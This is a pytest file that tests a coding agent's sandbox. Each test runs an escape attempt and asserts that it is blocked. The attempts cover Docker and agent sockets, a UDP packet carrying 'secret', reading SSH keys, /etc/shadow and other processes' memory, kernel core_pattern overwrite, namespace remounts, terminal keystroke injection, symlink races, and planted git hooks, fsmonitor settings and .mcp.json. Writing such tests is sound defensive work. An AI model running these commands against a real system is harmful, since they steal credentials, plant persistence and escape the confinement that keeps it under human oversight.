"""Commands that try to get out of a real sandbox, and what they find."""

import contextlib
import os
import pty
import socket
import subprocess
import sys
from pathlib import Path

import pytest
from sandbox_world import World

from letta_cli.core.need import Need
from letta_cli.workspace.confined import Held
from letta_cli.workspace.sandbox import Confinement, Sandbox

pytestmark = pytest.mark.slow


def python(code: str) -> str:
    return f"{sys.executable} - <<'END'\n{code}\nEND\n"


@contextlib.contextmanager
def listening(name: str):
    with socket.socket(socket.AF_UNIX) as server:
        server.bind(name)
        server.listen()
        yield


@pytest.fixture
def short(tmp_path_factory: pytest.TempPathFactory):
    """A folder with a short name, beside /tmp: names of sockets have little room."""
    folder = Path("/var/tmp") / f"sb-{os.getpid()}"
    folder.mkdir()
    yield folder
    for each in folder.iterdir():
        each.unlink()
    folder.rmdir()


@pytest.mark.parametrize("name", ["docker.sock", "bus", "agent.1", "S.gpg-agent"])
async def test_sockets_of_services_outside_of_the_known_folders_cannot_be_reached(
    world: World, short: Path, name: str
) -> None:
    code = (
        f"import socket\nsocket.socket(socket.AF_UNIX).connect({str(short / name)!r})\nprint('in')"
    )
    with listening(str(short / name)):
        done = await world.run(python(code))
    assert done.exit_code != 0 and "in\n" not in done.output


async def test_an_abstract_socket_cannot_be_reached(world: World) -> None:
    name = f"sandbox-test-{os.getpid()}"
    code = f"import socket\nsocket.socket(socket.AF_UNIX).connect('\\0{name}')\nprint('in')"
    with listening(f"\0{name}"):
        done = await world.run(python(code))
    assert done.exit_code != 0 and "in\n" not in done.output


async def test_leave_for_the_network_is_none_for_the_sockets_of_services(
    world: World, short: Path
) -> None:
    code = (
        f"import socket\nsocket.socket(socket.AF_UNIX).connect({str(short / 's')!r})\nprint('in')"
    )
    with listening(str(short / "s")):
        done = await world.run(python(code), "network")
    assert done.exit_code != 0 and "in\n" not in done.output


async def test_leave_to_read_a_folder_is_none_for_the_sockets_in_it(inside: World) -> None:
    folder = Path("/tmp") / f"sb-{os.getpid()}"
    folder.mkdir()
    name = folder / "docker.sock"
    code = f"import os, socket\nprint(os.listdir({str(folder)!r}))\n"
    code += f"socket.socket(socket.AF_UNIX).connect({str(name)!r})\nprint('in')"
    try:
        with listening(str(name)):
            done = await inside.run(python(code), f"read:{folder}")
            with pytest.raises(ValueError, match="device, pipe or socket"):
                await inside.run("true", f"read:{name}")
        assert "docker.sock" in done.output and "in\n" not in done.output
    finally:
        name.unlink()
        folder.rmdir()


async def test_names_are_not_looked_up_and_no_packet_leaves(world: World) -> None:
    done = await world.run(
        python(
            "import socket\n"
            "with open('udp', 'w') as f: f.write('no')\n"
            "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
            "s.sendto(b'secret', ('192.0.2.1', 53))\n"
            "print('sent')"
        )
    )
    assert done.exit_code != 0 and "sent" not in done.output


async def test_another_process_cannot_be_traced_signalled_or_looked_into(inside: World) -> None:
    other = subprocess.Popen(["sleep", "60"], env={"TOKEN": "hidden-token"})
    try:
        done = await inside.run(
            f"cat /proc/{other.pid}/environ /proc/{other.pid}/mem; kill -STOP {other.pid}; "
            + python(
                f"import ctypes\nprint('traced', ctypes.CDLL(None).ptrace(16, {other.pid}, 0, 0))"
            )
        )
        assert "hidden-token" not in done.output and "traced -1" in done.output
        state = Path(f"/proc/{other.pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
        assert state == "S"
    finally:
        other.kill()
        other.wait()


async def test_the_root_of_the_first_process_is_the_sandbox_itself(inside: World) -> None:
    key = inside.home / ".ssh" / "id_ed25519"
    for pid in ("1", "self", "$$"):
        done = await inside.run(f"cat /proc/{pid}/root{key}; echo x > /proc/{pid}/root/etc/planted")
        assert "PRIVATE" not in done.output
    assert not Path("/etc/planted").exists()


async def test_settings_of_the_kernel_and_devices_are_out_of_reach(inside: World) -> None:
    before = Path("/proc/sys/kernel/core_pattern").read_text()
    done = await inside.run(
        "echo '|/bin/evil' > /proc/sys/kernel/core_pattern; mknod /tmp/disk b 8 0; "
        "mount -t tmpfs none /mnt; cat /etc/shadow; ls /dev"
    )
    assert Path("/proc/sys/kernel/core_pattern").read_text() == before
    assert "root:" not in done.output
    assert not any(line.startswith(("sd", "vd", "nvme", "mem")) for line in done.output.split())


async def test_a_new_namespace_of_its_own_gives_nothing_back(inside: World) -> None:
    hook = inside.tree / ".git" / "hooks" / "post-checkout"
    await inside.run(
        "unshare -Urm bash -c 'umount .git; mount -o remount,rw,bind .git; "
        f"echo evil > {hook}; umount {inside.home}; cat {inside.home}/.ssh/id_ed25519 > leak'"
    )
    assert not hook.exists()
    leak = inside.tree / "leak"
    assert not leak.exists() or leak.read_text() == ""


async def test_characters_cannot_be_put_into_the_persons_terminal(inside: World) -> None:
    ours, theirs = pty.openpty()
    code = (
        "import fcntl, os, sys, termios\n"
        "try:\n"
        "    tty = os.open('/dev/tty', os.O_RDWR)\n"
        "    fcntl.ioctl(tty, termios.TIOCSTI, b'x')\n"
        "    print('typed')\n"
        "except OSError as error:\n"
        "    print('no terminal', error)\n"
    )
    try:
        assert "no terminal" in (await inside.run(python(code))).output
    finally:
        os.close(ours)
        os.close(theirs)


@pytest.mark.parametrize("name", [".vscode", ".mcp.json", ".claude"])
async def test_a_protected_name_that_is_a_link_cannot_be_led_elsewhere(
    inside: World, name: str
) -> None:
    kept = inside.tree / "kept"
    kept.mkdir()
    (inside.tree / name).symlink_to("kept")
    done = await inside.run(
        f"rm {name}; mkdir {name}; echo evil > {name}/tasks.json; echo evil > kept/x"
    )
    assert (inside.tree / name).readlink() == Path("kept")
    assert list(kept.iterdir()) == []
    assert [made for made, _ in done.taken_away] == [inside.tree / name]


async def test_what_a_dangling_protected_link_leads_to_cannot_be_made(world: World) -> None:
    (world.tree / ".mcp.json").symlink_to("later.json")
    done = await world.run("echo evil > later.json")
    assert not (world.tree / "later.json").exists()
    assert len(done.taken_away) == 1


async def test_a_link_that_is_swapped_while_it_is_written_through_stays_inside(
    world: World,
) -> None:
    target = world.outside / "target"
    target.write_text("before")
    await world.run(
        f"mkdir -p real; (for i in {{1..200}}; do ln -sfn {world.outside} way; ln -sfn real way; "
        "done) & for i in {1..200}; do echo evil > way/target; done; wait"
    )
    assert target.read_text() == "before"


async def test_a_repository_is_not_made_where_there_was_none(world: World) -> None:
    plain = world.outside / "plain"
    plain.mkdir()
    done = await world.run("git init -q . ; git config core.fsmonitor 'touch owned'", cwd=plain)
    assert not (plain / ".git").exists() and done.taken_away
    assert (await world.run("git init -q .", "git", cwd=plain)).exit_code == 0
    assert (plain / ".git").is_dir()


async def test_a_repository_within_the_tree_is_protected_too(inside: World) -> None:
    nested = inside.tree / "vendor" / "lib"
    nested.mkdir(parents=True)
    subprocess.run(["git", "init", "-q", "."], cwd=nested, check=True)
    (nested / ".mcp.json").write_text("{}")
    before = (nested / ".git" / "config").read_text()
    await inside.run(
        "cd vendor/lib; git config core.fsmonitor evil; echo evil > .git/hooks/post-checkout; "
        "echo evil > .mcp.json"
    )
    assert (nested / ".git" / "config").read_text() == before
    assert not (nested / ".git" / "hooks" / "post-checkout").exists()
    assert (nested / ".mcp.json").read_text() == "{}"


async def test_the_git_folder_of_a_worktree_lies_outside_and_is_protected(inside: World) -> None:
    who = "git -c user.name=A -c user.email=a@b.c"
    await inside.run(f"git add . && {who} commit -qm one", "git")
    linked = inside.outside / "linked"
    subprocess.run(["git", "worktree", "add", "-q", linked], cwd=inside.tree, check=True)
    own = inside.tree / ".git" / "worktrees" / "linked"
    before = {name: (own / name).read_text() for name in ("commondir", "gitdir")}
    pointer = (linked / ".git").read_text()
    for needs in ((), ("git",)):
        await inside.run(
            f"echo /evil > {own}/commondir; echo /evil > {own}/gitdir; echo x > .git; "
            f"echo x > {own}/config.worktree; echo evil > {inside.tree}/.git/hooks/post-checkout",
            *needs,
            cwd=linked,
        )
    assert {name: (own / name).read_text() for name in before} == before
    assert (linked / ".git").read_text() == pointer
    assert not (own / "config.worktree").exists()
    assert not (inside.tree / ".git" / "hooks" / "post-checkout").exists()


async def test_rules_on_files_hold_for_what_a_program_opens_by_itself(inside: World) -> None:
    (inside.tree / ".env").write_text("TOKEN=hidden")
    (inside.tree / "kept").mkdir()
    held = Held(
        unreadable=(inside.tree / ".env",),
        unwritable=(inside.tree / "kept", inside.tree / "new.lock"),
    )
    shell = inside.workspace(held=held).shell
    done = await shell.run(
        python(
            "print(open('.env').read())\n"
            "for name in ('kept/x', 'new.lock'):\n"
            "    try: open(name, 'w').write('x')\n"
            "    except OSError as error: print(error)\n"
        )
    )
    assert "hidden" not in done.output
    assert not (inside.tree / "kept" / "x").exists() and not (inside.tree / "new.lock").exists()


async def test_a_granted_folder_is_open_for_that_command_alone(world: World) -> None:
    shell = world.workspace().shell
    for needs, written in ((["write"], True), ([], False)):
        command = f"echo x > {world.outside}/file"
        given = [Need("write", str(world.outside)) for _ in needs]
        await shell.run(command, needs=given)
        assert (world.outside / "file").exists() is written
        (world.outside / "file").unlink(missing_ok=True)


async def test_a_granted_folder_of_the_home_folder_can_be_read_and_its_keys_stay_hidden(
    world: World,
) -> None:
    (world.home / "notes").mkdir()
    (world.home / "notes" / "one").write_text("a note")
    look = f"cat {world.home}/notes/one {world.home}/.ssh/id_ed25519"
    assert "a note" not in (await world.run(look)).output
    done = await world.run(look, f"read:{world.home}/notes")
    assert "a note" in done.output and "PRIVATE" not in done.output


async def test_leave_for_the_home_folder_is_no_leave_for_keys_or_the_agents_data(
    inside: World,
) -> None:
    (inside.home / ".agent").mkdir(exist_ok=True)
    (inside.home / ".agent" / "agent.db").write_text("memory")
    done = await inside.run(
        f"cd {inside.home}; cat .ssh/id_ed25519 .agent/agent.db; echo evil >> .bashrc; "
        "echo evil > .agent/settings.json; echo new > note",
        f"write:{inside.home}",
    )
    assert "PRIVATE" not in done.output and "memory" not in done.output
    assert (inside.home / "note").exists()
    assert not (inside.home / ".bashrc").exists()
    assert not (inside.home / ".agent" / "settings.json").exists()


async def test_a_path_that_leads_elsewhere_by_now_is_not_granted(world: World) -> None:
    (world.outside / "way").symlink_to(world.home)
    with pytest.raises(ValueError, match="by its own name"):
        await world.run("true", f"write:{world.outside}/way")


async def test_without_a_sandbox_only_by_that_name(world: World) -> None:
    key = world.home / ".ssh" / "id_ed25519"
    done = await world.workspace().shell.run(f"cat {key}", needs=[Need("unconfined")])
    assert "PRIVATE" in done.output and not done.confined


@pytest.mark.parametrize(
    ("command", "need"),
    [
        ("echo x > {outside}/file", "write:{outside}"),
        ("python3 -c \"open('{outside}/file', 'w')\"", "write:{outside}"),
        ("cat {home}/notes", "read:{home}/notes"),
        ("git add app.py", "git"),
        ("curl -sS https://pypi.org/simple/", "network:pypi.org"),
        ("git clone -q https://github.com/a/b", "network:github.com"),
    ],
)
async def test_a_command_that_runs_into_the_boundary_shows_what_it_needs(
    inside: World, short: Path, command: str, need: str
) -> None:
    (inside.home / "notes").write_text("a note")
    places = {"outside": short, "home": inside.home}
    done = await inside.run(command.format(**places))
    assert [each.text for each in done.needed] == [need.format(**places)]


async def test_a_socket_that_goes_away_while_the_sandbox_is_made_costs_a_second_try(
    inside: World, short: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    shell = inside.workspace().shell
    assert shell.confined is not None
    gone = short / "gone"
    seen = iter([[gone], []])
    monkeypatch.setattr("letta_cli.workspace.sandbox.confinement._open_sockets", lambda: next(seen))
    gone.write_text("")
    wrapped = Sandbox.wrap

    def wrap_late(sandbox: Sandbox, command: list[str], reach: Confinement) -> list[str]:
        line = wrapped(sandbox, command, reach)
        gone.unlink(missing_ok=True)
        return line

    monkeypatch.setattr(Sandbox, "wrap", wrap_late)
    assert (await shell.run("echo here")).output == "here\n"


async def test_an_ordinary_failure_shows_no_need(world: World) -> None:
    done = await world.run(
        "ls missing; cat no/such; python3 -c 'import nothing'; git config a.b c; false"
    )
    assert done.exit_code and done.needed == ()


@pytest.mark.parametrize("name", [".vscode", ".git"])
async def test_a_folder_moved_away_takes_no_protected_name_along(inside: World, name: str) -> None:
    (inside.tree / "part" / name).mkdir(parents=True)
    done = await inside.run(
        f"mv part old && mkdir -p part/{name} && echo evil > part/{name}/config"
    )
    assert done.exit_code == 0
    assert not (inside.tree / "part" / name).exists()
    assert [made for made, _ in done.taken_away] == [inside.tree / "part" / name]


async def test_nothing_is_taken_away_behind_a_link_in_a_folders_place(inside: World) -> None:
    (inside.tree / "part" / ".vscode").mkdir(parents=True)
    others = inside.outside / ".vscode"
    others.mkdir()
    done = await inside.run(f"mv part old && ln -s {inside.outside} part")
    assert (done.exit_code, done.taken_away) == (0, ())
    assert others.is_dir()
